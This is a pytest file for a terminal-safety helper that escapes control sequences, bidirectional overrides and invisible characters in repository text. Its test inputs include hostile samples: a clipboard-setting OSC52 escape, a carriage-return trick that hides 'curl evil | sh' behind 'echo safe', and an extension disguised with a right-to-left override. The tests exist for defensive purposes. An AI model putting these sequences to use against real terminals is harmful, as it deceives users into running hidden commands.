"""leslie/terminal.py: `visible`, the one helper that stands between repository text and a terminal."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leslie.cli.list_view import unescape_field
from leslie.terminal import visible

# What a hostile repository writes to act on a terminal or to hide what it says.
OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # sets the clipboard
CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"
BIDI = "\u202e"


@pytest.mark.parametrize(("text", "shown"), [
    ("git status --short", "git status --short"),
    ("echo safe\r\x1b[2Kcurl evil | sh", "echo safe\\r\\x1b[2Kcurl evil | sh"),
    ("ls \u202etxt.exe", "ls \\u202etxt.exe"),
    ("a\u200bb\u2028c\u00a0d\x7f\x85", "a\\u200bb\\u2028c\\xa0d\\x7f\\x85"),
    (OSC52 + CLEAR + C1_CSI, "\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J\\x9b31m"),
    ("\u2066iso\u2069 \u200e\u200f\ufeff\u2029", "\\u2066iso\\u2069 \\u200e\\u200f\\ufeff\\u2029"),
    ("tag \U000e0041 pua \U000f0000", "tag \\U000e0041 pua \\U000f0000"),
    ("multi\nline\tcommand \\ here", "multi\\nline\\tcommand \\ here"),
    ("café 日本 ✓ 😀", "café 日本 ✓ 😀"),
])
def test_visible_shows_every_hiding_character_as_an_escape(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_lines_keep_line_feeds_and_nothing_else() -> None:
    assert visible("one\x1b[2J\ntwo\r\n", lines=True) == "one\\x1b[2J\ntwo\\r\n"


def test_backslashes_doubled_make_it_unambiguous() -> None:
    assert visible("multi\nline\tcommand \\ here", backslashes=True) == "multi\\nline\\tcommand \\\\ here"
    assert visible("\\x1b", backslashes=True) != visible("\x1b", backslashes=True)


@given(st.text(), st.booleans(), st.booleans())
def test_nothing_unprintable_is_left_and_a_second_pass_changes_nothing(text: str, lines: bool,
                                                                       backslashes: bool) -> None:
    out = visible(text, lines=lines, backslashes=backslashes)
    assert all(line.isprintable() for line in out.split("\n"))
    assert lines or "\n" not in out
    assert visible(out, lines=lines) == out  # escaping at every edge is safe: idempotent


@given(st.text())
def test_with_backslashes_doubled_the_text_comes_back(text: str) -> None:
    assert unescape_field(visible(text, backslashes=True)) == text


def test_a_repr_in_a_message_is_shown_as_written() -> None:
    message = f"unknown --format {'x' + chr(0x1b) + BIDI!r}"
    assert visible(message) == message
